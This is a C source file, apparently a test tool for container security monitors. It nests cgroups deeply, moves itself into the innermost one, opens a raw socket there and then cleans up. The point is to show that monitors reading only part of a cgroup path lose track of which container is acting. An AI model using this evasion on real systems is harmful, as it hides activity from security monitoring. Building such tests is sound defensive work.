// SPDX-License-Identifier: Apache-2.0
//
// attack-nested-cgroups nests cgroups below its own, moves itself into the innermost and opens a
// raw socket there. A monitor that follows only a part of the cgroup's path cannot identify the
// container. The attack uses relative paths, as the whole path may be longer than the kernel
// accepts.
//
//   attack-nested-cgroups DIRECTORY DEPTH    DIRECTORY is the directory of its own cgroup
//
// It moves itself back and removes the cgroups. It exits 0 if the socket was opened, 1 on failure,
// 2 on wrong usage.

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what)
{
	perror(what);
	return 1;
}

/* Moves this process into the cgroup of the working directory. */
static int enter(void)
{
	int procs = open("cgroup.procs", O_WRONLY);
	int moved = procs >= 0 && write(procs, "0", 1) == 1;

	if (procs >= 0)
		close(procs);
	return moved;
}

int main(int argc, char **argv)
{
	long depth = argc == 3 ? strtol(argv[2], NULL, 10) : 0;
	int home, raw;

	if (depth <= 0) {
		fprintf(stderr, "usage: attack-nested-cgroups DIRECTORY DEPTH\n");
		return 2;
	}
	home = open(argv[1], O_RDONLY | O_DIRECTORY);
	if (home < 0 || fchdir(home))
		return fail(argv[1]);
	for (long i = 0; i < depth; i++)
		if (mkdir("n", 0755) || chdir("n"))
			return fail("n");
	if (!enter())
		return fail("cgroup.procs");
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (raw < 0)
		return fail("socket");
	close(raw);
	for (long i = 0; i < depth; i++) {
		if (chdir(".."))
			return fail("..");
		if (i == 0) { /* leave the innermost cgroup, so it can be removed */
			int procs = openat(home, "cgroup.procs", O_WRONLY);
			if (procs < 0 || write(procs, "0", 1) != 1)
				return fail(argv[1]);
			close(procs);
		}
		while (rmdir("n"))
			if (errno != EBUSY)
				return fail("rmdir");
	}
	return 0;
}
